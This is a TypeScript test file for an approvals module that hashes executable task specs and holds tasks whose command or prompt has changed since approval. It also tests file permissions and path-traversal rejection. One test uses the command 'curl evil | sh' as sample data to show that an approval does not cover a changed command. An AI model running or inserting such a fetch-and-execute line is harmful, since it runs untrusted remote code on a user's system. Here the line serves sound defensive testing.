import {
	existsSync,
	mkdirSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	rmSync,
	statSync,
	writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
	type Executable,
	executableSpec,
	promptDigest,
	readApproval,
	verdict,
	writeApproval,
} from "../../src/trust/approvals.ts";

const task = "tsk_0123456789";
const executable: Executable = {
	runner: { kind: "shell", argv: ["make", "test"], env: { B: "2", A: "1" } },
	checks: ["npm test", ["node", "-v"]],
};
let folder: string;

beforeEach(() => {
	folder = mkdtempSync(join(tmpdir(), "msgcode-approvals-"));
});

afterEach(() => rmSync(folder, { recursive: true, force: true }));

const approve = (what: Executable, prompt = "prompt") =>
	writeApproval(folder, task, { spec: executableSpec(what).spec, promptDigest: promptDigest(prompt), atMs: 5 });
const current = (what: Executable, prompt = "prompt") => ({
	command: executableSpec(what).digest,
	prompt: promptDigest(prompt),
});

describe("an executable spec", () => {
	it("has one digest for one meaning: key order and absent values do not count", () => {
		const same: Executable = {
			schedule: undefined,
			checks: ["npm test", ["node", "-v"]],
			runner: { env: { A: "1", B: "2" }, script: undefined, argv: ["make", "test"], kind: "shell" },
		};
		expect(executableSpec(same)).toEqual(executableSpec(executable));
		expect(executableSpec(executable).digest).toMatch(/^sha256:[0-9a-f]{64}$/);
	});

	it.each<[string, Executable]>([
		["runner", { ...executable, runner: { ...executable.runner, kind: "exec" } }],
		["argument", { ...executable, runner: { ...executable.runner, argv: ["make", "test "] } }],
		["split of arguments", { ...executable, runner: { ...executable.runner, argv: ["make test"] } }],
		["order of arguments", { ...executable, runner: { ...executable.runner, argv: ["test", "make"] } }],
		["variable", { ...executable, runner: { ...executable.runner, env: { A: "1", B: "3" } } }],
		["allowed variable", { ...executable, runner: { ...executable.runner, envAllow: ["AWS_*"] } }],
		["script", { ...executable, runner: { ...executable.runner, script: "rm x" } }],
		["shell", { ...executable, runner: { ...executable.runner, shell: "bash" } }],
		["standard input", { ...executable, runner: { ...executable.runner, stdin: "prompt" } }],
		["check", { ...executable, checks: ["npm test"] }],
		["schedule", { ...executable, schedule: { cron: "* * * * *", tz: "UTC" } }],
		["probe", { ...executable, probe: ["claude", "--version"] }],
	])("changes its digest with another %s", (_, other) => {
		expect(executableSpec(other).digest).not.toBe(executableSpec(executable).digest);
	});

	it("refuses what no file can hold", () => {
		let deep: unknown = 1;
		for (let count = 0; count < 100_000; count += 1) {
			deep = [deep];
		}
		for (const schedule of [deep, Number.NaN, () => 1]) {
			expect(() => executableSpec({ ...executable, schedule })).toThrow(
				expect.objectContaining({ code: "task_invalid_spec" }),
			);
		}
	});
});

describe("an approval", () => {
	it("covers exactly what was approved", () => {
		const approval = approve(executable);
		expect(readApproval(folder, task)).toEqual(approval);
		expect(verdict(readApproval(folder, task), current(executable), { needsPrompt: true })).toEqual({
			verdict: "approved",
		});
	});

	it("is missing at first", () => {
		expect(readApproval(join(folder, "nowhere"), task)).toBeNull();
		expect(verdict(null, current(executable), { needsPrompt: false })).toEqual({
			verdict: "held",
			reason: "never approved",
		});
	});

	it("does not cover another command", () => {
		const other = { ...executable, checks: ["curl evil | sh"] };
		expect(verdict(approve(executable), current(other), { needsPrompt: false })).toEqual({
			verdict: "held",
			reason: "command changed",
		});
	});

	it("covers another prompt only where the prompt is not what is executed", () => {
		const approval = approve(executable);
		expect(verdict(approval, current(executable, "other"), { needsPrompt: false }).verdict).toBe("approved");
		expect(verdict(approval, current(executable, "other"), { needsPrompt: true })).toEqual({
			verdict: "held",
			reason: "prompt changed",
		});
	});

	it("is a file for its owner alone, and leaves no temporary file", () => {
		approve(executable);
		expect(readdirSync(folder)).toEqual([`${task}.json`]);
		expect(statSync(join(folder, `${task}.json`)).mode & 0o777).toBe(0o600);
	});

	it.each<[string, (text: string) => string]>([
		["empty", () => ""],
		["torn", (text) => text.slice(0, -10)],
		["not an object", () => "null"],
		["of another version", (text) => text.replace('"schemaVersion": 1', '"schemaVersion": 2')],
		["with another spec than its digest says", (text) => text.replace("make", "fake")],
		["without a prompt", (text) => text.replace('"prompt"', '"prose"')],
		["without a spec", (text) => text.replace('"spec"', '"speck"')],
	])("that is %s counts as none", (_, damage) => {
		approve(executable);
		const path = join(folder, `${task}.json`);
		const text = readFileSync(path, "utf8");
		writeFileSync(path, damage(text));
		expect(damage(text)).not.toBe(text);
		expect(readApproval(folder, task)).toBeNull();
	});

	it("cannot be read or written outside its folder", () => {
		const inner = join(folder, "inner");
		mkdirSync(inner);
		for (const id of ["../tsk_0123456789", "x", ""]) {
			expect(() => readApproval(inner, id)).toThrow(expect.objectContaining({ code: "input_invalid" }));
			expect(() => writeApproval(inner, id, { spec: {}, promptDigest: "", atMs: 0 })).toThrow(
				expect.objectContaining({ code: "input_invalid" }),
			);
		}
		expect(existsSync(join(folder, `${task}.json`))).toBe(false);
	});
});
